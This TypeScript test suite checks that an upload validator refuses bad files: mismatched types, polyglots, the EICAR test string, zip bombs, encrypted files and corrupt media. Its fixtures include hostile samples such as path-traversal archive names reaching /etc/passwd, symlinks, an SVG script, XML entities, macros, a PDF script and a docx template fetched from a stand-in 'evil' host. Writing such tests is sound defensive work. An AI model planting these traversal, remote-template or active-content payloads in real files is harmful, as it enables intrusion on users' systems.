/** Bad input of every kind: refused with the reason that the instructor sees, nothing served, nothing left. */
import { assert, describe, it } from "@effect/vitest"
import { Effect, Schema } from "effect"
import sharp from "sharp"
import { archiveLimits } from "../src/archive/Budget.ts"
import { isSafePath } from "../src/archive/SafePath.ts"
import { agrees, endsAsZip } from "../src/Sniff.ts"
import { compoundFile, docx, docxType, pptxType } from "./support/Documents.ts"
import { film, sound } from "./support/Films.ts"
import { pdf, scripted } from "./support/Pdfs.ts"
import { passed, platform, reasonsOn } from "./support/Platform.ts"
import { type ZipFile, zipOf } from "./support/Zip.ts"

/** In two halves, so that no scanner finds it here. */
const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("")
const png = Effect.promise(() =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: "red" } })
    .png()
    .toBuffer()
)
const zip = "application/zip"
const latin = (text: string) => new Uint8Array(Buffer.from(text, "latin1"))

describe("refused", () => {
  it.effect("what is empty, too large, or of a kind that is not taken", () =>
    Effect.gen(function* () {
      assert.deepStrictEqual(yield* reasonsOn("", "text/plain"), ["empty"])
      assert.deepStrictEqual(yield* reasonsOn("MZ", "application/x-msdownload"), ["type-not-allowed"])
      assert.deepStrictEqual(yield* reasonsOn("<p>", "text/html"), ["type-not-allowed"])
      yield* passed("1".repeat(5_000_000), "text/plain")
      assert.deepStrictEqual(yield* reasonsOn(new Uint8Array(5_000_001), "text/vtt"), ["too-large"])
    }).pipe(Effect.provide(platform))
  )

  it.effect("bytes that are not what they are said to be", () =>
    Effect.gen(function* () {
      const image = yield* png
      const text = "only words"
      const mp4 = yield* Effect.promise(() => film("mp4"))
      const document = yield* Effect.promise(() => pdf(["page"]))
      const wrong: ReadonlyArray<readonly [Uint8Array | string, string]> = [
        [image, "image/jpeg"],
        [image, "application/pdf"],
        [image, "text/plain"],
        [text, "image/png"],
        [text, "application/pdf"],
        [text, "video/mp4"],
        [text, zip],
        [text, "image/svg+xml"],
        ["<?xml version='1.0'?><html/>", "image/svg+xml"],
        [mp4, "video/webm"],
        [mp4, "image/avif"],
        [mp4, "audio/mp4"],
        [document, "text/plain"],
        [document, docxType],
        [latin("\x7fELF\x02\x01\x01\0\0\0"), "text/csv"],
        [latin("a\0b"), "text/markdown"],
        [docx(), pptxType],
        [zipOf([{ name: "word/document.xml", bytes: "<a/>" }]), docxType],
        [docx(), "application/epub+zip"],
        [compoundFile("WordDocument"), docxType],
        [latin("GIF89a"), "image/png"]
      ]
      for (const [bytes, mediaType] of wrong)
        assert.deepStrictEqual(yield* reasonsOn(bytes, mediaType), ["type-mismatch"], mediaType)
    }).pipe(Effect.provide(platform))
  )

  it.effect("two kinds in one file", () =>
    Effect.gen(function* () {
      const archive = zipOf([{ name: "a.txt", bytes: "hidden" }])
      const hosts = [
        [yield* png, "image/png"],
        [yield* Effect.promise(() => pdf(["page"])), "application/pdf"],
        [yield* Effect.promise(() => film("mp4")), "video/mp4"],
        [new TextEncoder().encode("words "), "text/plain"]
      ] as const
      for (const [host, mediaType] of hosts) {
        yield* passed(host, mediaType)
        assert.deepStrictEqual(
          yield* reasonsOn(Buffer.concat([host, archive]), mediaType),
          ["type-mismatch"],
          mediaType
        )
      }
      assert.deepStrictEqual(
        yield* reasonsOn(Buffer.concat([Buffer.from("GIF89a=1;"), Buffer.from(yield* png)]), "image/gif"),
        ["corrupt"]
      )
    }).pipe(Effect.provide(platform))
  )

  it.effect("the test virus, wherever it is", () =>
    Effect.gen(function* () {
      assert.deepStrictEqual(yield* reasonsOn(eicar, "text/plain"), ["infected"])
      assert.deepStrictEqual(yield* reasonsOn(eicar, "application/pdf"), ["infected", "type-mismatch"])
      // Across the border of two pieces of the store.
      assert.deepStrictEqual(yield* reasonsOn(" ".repeat(65_500) + eicar, "text/plain"), ["infected"])
      const packed: ZipFile = { name: "setup.txt", bytes: eicar }
      assert.notInclude(Buffer.from(zipOf([packed])).toString("latin1"), eicar)
      assert.deepStrictEqual(yield* reasonsOn(zipOf([packed]), zip), ["infected"])
      assert.deepStrictEqual(yield* reasonsOn(docx([packed]), docxType), ["infected"])
      const nested = zipOf([{ name: "inner.zip", bytes: zipOf([packed]) }])
      assert.deepStrictEqual(yield* reasonsOn(nested, zip), ["infected"])
    }).pipe(Effect.provide(platform))
  )

  it.effect("archives that unpack to too much, by size, by number, by depth", () =>
    Effect.gen(function* () {
      const zeros = (megabytes: number) => new Uint8Array(megabytes * 1_000_000)
      const bomb = zipOf([{ name: "zeros", bytes: zeros(archiveLimits.freeBytes / 1_000_000 + 5) }])
      assert.deepStrictEqual(yield* reasonsOn(bomb, zip), ["archive-too-large"])
      yield* passed(zipOf([{ name: "few zeros", bytes: zeros(2) }]), zip)
      assert.deepStrictEqual(yield* reasonsOn(docx([{ name: "word/media/a.png", bytes: zeros(25) }]), docxType), [
        "archive-too-large"
      ])
      // Small ones in many: each archive in the archive unpacks to a lot.
      const small = zipOf([{ name: "zeros", bytes: zeros(9) }])
      const many = zipOf(["a", "b", "c"].map((name) => ({ name: `${name}.zip`, bytes: small, stored: true })))
      assert.deepStrictEqual(yield* reasonsOn(many, zip), ["archive-too-large"])
      const crowd = Array.from({ length: archiveLimits.entries + 1 }, (_, n) => ({
        name: `${n}`,
        bytes: "",
        stored: true
      }))
      assert.deepStrictEqual(yield* reasonsOn(zipOf(crowd), zip), ["archive-too-large"])
      let deep = zipOf([{ name: "a", bytes: "a" }])
      for (let n = 0; n < archiveLimits.depth; n++) deep = zipOf([{ name: "in.zip", bytes: deep }])
      assert.deepStrictEqual(yield* reasonsOn(deep, zip), ["archive-too-large"])
    }).pipe(Effect.provide(platform))
  )

  it.effect("archives whose names leave their folder, or whose files are links", () =>
    Effect.gen(function* () {
      const names = ["../a", "a/../../b", "/etc/passwd", "..\\a", "C:\\a", "a/..", "a\0.txt", "\u202egpj.exe", ".. /a"]
      for (const name of names)
        assert.deepStrictEqual(yield* reasonsOn(zipOf([{ name, bytes: "x" }]), zip), ["archive-unsafe-path"], name)
      const link = zipOf([{ name: "link", bytes: "/etc/passwd", mode: 0o120777 }])
      assert.deepStrictEqual(yield* reasonsOn(link, zip), ["archive-unsafe-path"])
      yield* passed(zipOf([{ name: "a..b/..c/d...e", bytes: "x" }]), zip)
    }).pipe(Effect.provide(platform))
  )

  it.effect("what is behind a password", () =>
    Effect.gen(function* () {
      const locked = yield* Effect.promise(() => pdf(["secret"], "a password"))
      assert.deepStrictEqual(yield* reasonsOn(locked, "application/pdf"), ["encrypted"])
      assert.deepStrictEqual(yield* reasonsOn(zipOf([{ name: "a", bytes: "x", flags: 1 }]), zip), ["encrypted"])
      assert.deepStrictEqual(yield* reasonsOn(compoundFile("EncryptedPackage"), docxType), ["encrypted"])
    }).pipe(Effect.provide(platform))
  )

  it.effect("what runs", () =>
    Effect.gen(function* () {
      const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
      assert.deepStrictEqual(yield* reasonsOn(svg, "image/svg+xml"), ["active-content"])
      const entity = '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
      assert.deepStrictEqual(yield* reasonsOn(entity, "image/svg+xml"), ["active-content"])
      const macros = docx([{ name: "word/vbaProject.bin", bytes: "x" }])
      assert.deepStrictEqual(yield* reasonsOn(macros, docxType), ["active-content"])
      const twin = docx([], "application/vnd.ms-word.document.macroEnabled.main+xml")
      assert.deepStrictEqual(yield* reasonsOn(twin, docxType), ["active-content"])
      const template =
        '<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
      const fetching = docx([{ name: "word/_rels/settings.xml.rels", bytes: template }])
      assert.deepStrictEqual(yield* reasonsOn(fetching, docxType), ["active-content"])
      const link = template.replace("attachedTemplate", "hyperlink")
      yield* passed(docx([{ name: "word/_rels/document.xml.rels", bytes: link }]), docxType)
      const script = scripted(yield* Effect.promise(() => pdf(["page"])), "app.alert")
      assert.deepStrictEqual(yield* reasonsOn(script, "application/pdf"), ["active-content"])
    }).pipe(Effect.provide(platform))
  )

  it.effect("what is damaged", () =>
    Effect.gen(function* () {
      const document = yield* Effect.promise(() => pdf(["page"]))
      const mp4 = yield* Effect.promise(() => film("mp4"))
      const archive = zipOf([{ name: "a.txt", bytes: "words ".repeat(100) }])
      const damaged: ReadonlyArray<readonly [Uint8Array | string, string]> = [
        [document.subarray(0, 60), "application/pdf"],
        [latin("%PDF-1.7\n%%EOF"), "application/pdf"],
        [mp4.subarray(0, 60), "video/mp4"],
        [(yield* Effect.promise(sound)).subarray(0, 40), "audio/mp4"],
        [archive.subarray(0, archive.length - 10), zip],
        [zipOf([{ name: "a", bytes: "x", crc: 1 }]), zip],
        [docx([{ name: "word/footnotes.xml", bytes: "<a><b></a>" }]), docxType],
        [docx([{ name: "word/footnotes.xml", bytes: '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>' }]), docxType],
        ["WEBVTT\n\n00:05.000 --> 00:01.000\nbackwards", "text/vtt"],
        ["no subtitles", "application/x-subrip"],
        ["1\n00:00:01,000 --> 00:00:02,000\nx", "text/vtt"],
        ["{", "application/json"],
        ['<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "image/svg+xml"]
      ]
      for (const [index, [bytes, mediaType]] of damaged.entries())
        assert.deepStrictEqual(yield* reasonsOn(bytes, mediaType), ["corrupt"], `${mediaType} ${index}`)
    }).pipe(Effect.provide(platform))
  )
})

describe("names in archives", () => {
  const Segment = Schema.String.check(Schema.isPattern(/^[a-z][a-z0-9_.-]{0,10}$/))
  it.effect.prop(
    "of plain segments are safe, and no longer with a way out",
    [Schema.NonEmptyArray(Segment)],
    ([segments]) =>
      Effect.sync(() => {
        const path = segments.join("/")
        assert.isTrue(isSafePath(path) || path.length > 1024)
        for (const way of ["..", " ..", ".. ", "..."])
          for (const slash of ["/", "\\"]) assert.isFalse(isSafePath([...segments, way, "x"].join(slash)))
        assert.isFalse(isSafePath(`/${path}`))
        assert.isFalse(isSafePath(`\\\\${path}`))
        assert.isFalse(isSafePath(`c:${path}`))
      })
  )
})

describe("beginnings and ends", () => {
  it.effect.prop("a zip with any comment ends as one; a byte more or less does not", [Schema.Uint8Array], ([comment]) =>
    Effect.sync(() => {
      const bytes = Buffer.from(zipOf([{ name: "a", bytes: "a" }]))
      bytes.writeUInt16LE(comment.length, bytes.length - 2)
      const whole = Buffer.concat([bytes, comment])
      assert.isTrue(endsAsZip(whole))
      assert.isFalse(endsAsZip(Buffer.concat([whole, Buffer.from([0])])))
      assert.isFalse(endsAsZip(whole.subarray(0, -1)))
    })
  )
  it("a type agrees with itself and with no other that is no kin", () => {
    for (const type of ["image/png", "image/jpeg", "application/pdf", "video/mp4", "audio/mpeg", zip]) {
      assert.isTrue(agrees(type, type))
      for (const other of ["application/x-elf", "application/x-msdownload", "text/html", undefined])
        assert.isFalse(agrees(type, other), `${type} ${other}`)
    }
  })
})
